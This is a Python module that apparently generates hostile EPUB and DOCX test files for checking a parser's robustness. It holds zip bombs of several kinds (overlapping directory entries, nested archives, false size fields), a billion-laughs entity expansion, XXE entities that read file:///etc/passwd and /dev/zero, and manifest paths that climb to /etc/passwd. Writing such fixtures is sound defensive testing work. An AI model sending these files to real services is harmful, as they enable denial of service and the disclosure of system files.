"""EPUB and DOCX files that unpack to far more, share one content a thousand times, or declare entities of entities.

PACKAGES["overlapping.docx"](2**30) -> 1 MB, a thousand entries of 1 GB each
"""

from __future__ import annotations

import io
import struct
import zipfile

from bomb_streams import Maker, gz, zeros
from small_files import W, zipped


def document_xml(body: str, before: str = "") -> bytes:
    text = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": text})


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHTER = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'


def epub(chapter: bytes | str, package: str | None = None) -> bytes:
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>',
            "a.opf": package
            or '<package><manifest><item id="c" href="c.xhtml"/></manifest>'
            '<spine><itemref idref="c"/></spine></package>',
            "c.xhtml": chapter,
        }
    )


def large_zip(names: list[str], size: int, begin: bytes, small: dict[str, str]) -> bytes:
    """Entries of `size` bytes each."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in small.items():
            archive.writestr(name, content)
        for name in names:
            with archive.open(name, "w", force_zip64=True) as file:
                file.write(begin)
                for part in zeros(size):
                    file.write(part)
    return stream.getvalue()


def overlapping(size: int) -> bytes:
    """Thousand entries of the directory share one packed content."""
    content = large_zip(["word/document.xml"], size, b"<w:document>", {"[Content_Types].xml": "<Types/>"})
    end = content.rfind(b"PK\x05\x06")
    directory = content[struct.unpack_from("<I", content, end + 16)[0] : end]
    entries = b"".join(directory.replace(b"word/document.xml", b"word/documen%04d" % n) for n in range(1000))
    start = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2000, 2000, len(entries), end - len(directory), 0)
    return content[: end - len(directory)] + entries + start


def many_entries(size: int) -> bytes:
    names = {f"word/{n}": "" for n in range(min(size // 2**14, 65_000))}
    return zipped({"[Content_Types].xml": "<Types/>"} | names)


def bomb_in_zip(size: int) -> bytes:
    inner = zipped({"bomb.zip": zipped({"zeros": gz(size)})})
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": inner, "word/a.zip": inner})


def lying_size(size: int) -> bytes:
    """The directory says 10 bytes."""
    content = bytearray(document_xml("<w:p/>" * 1000))
    place = content.rfind(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(content)


PACKAGES: dict[str, Maker] = {
    "entities.docx": lambda size: document_xml("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", LAUGHTER),
    "entities.epub": lambda size: epub(f"{LAUGHTER}<html><body><p>&l9;</p></body></html>"),
    "entities-opf.epub": lambda size: epub("<p>x", f"{LAUGHTER}<package>&l9;</package>"),
    "external.docx": lambda size: document_xml(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "parameter.docx": lambda size: document_xml(
        "", '<!DOCTYPE x [<!ENTITY % x SYSTEM "file:///dev/zero"> %x;]>'
    ),
    "long-entity.epub": lambda size: epub(
        "<p>x", f'<!DOCTYPE x [<!ENTITY a "{"a" * 10**5}">]><package>{"&a;" * 10**4}</package>'
    ),
    "zeros.docx": lambda size: large_zip(
        ["word/document.xml"], size, b"<w:document>", {"[Content_Types].xml": ""}
    ),
    "attribute.docx": lambda size: large_zip(
        ["word/document.xml"], min(size, 2**27), b'<w:document a="', {"[Content_Types].xml": ""}
    ),
    "zeros.epub": lambda size: large_zip(
        [f"{n}.xhtml" for n in range(3)], size, b"<p>", {"mimetype": "application/epub+zip"}
    ),
    "overlapping.docx": overlapping,
    "entries.docx": many_entries,
    "nested.docx": bomb_in_zip,
    "size.docx": lying_size,
    "deep.docx": lambda size: document_xml("<w:p>" * 10**5),
    "tables.docx": lambda size: document_xml("<w:tbl><w:tr><w:tc>" * 130),
    "wide.docx": lambda size: document_xml("<w:p/>" * min(size // 256, 4 * 10**6)),
    "spine.epub": lambda size: epub(
        "<p>chapter" * 1000,
        '<package><manifest><item id="c" href="c.xhtml"/></manifest><spine>'
        + '<itemref idref="c"/>' * 10**5
        + "</spine></package>",
    ),
    "climbing.epub": lambda size: epub(
        "<p>x",
        '<package><manifest><item id="c" href="../../../../etc/passwd"/><item id="d" href="/etc/passwd"/>'
        '<item id="e" href="c.xhtml"/></manifest><spine><itemref idref="c"/><itemref idref="d"/>'
        '<itemref idref="e"/></spine></package>',
    ),
}
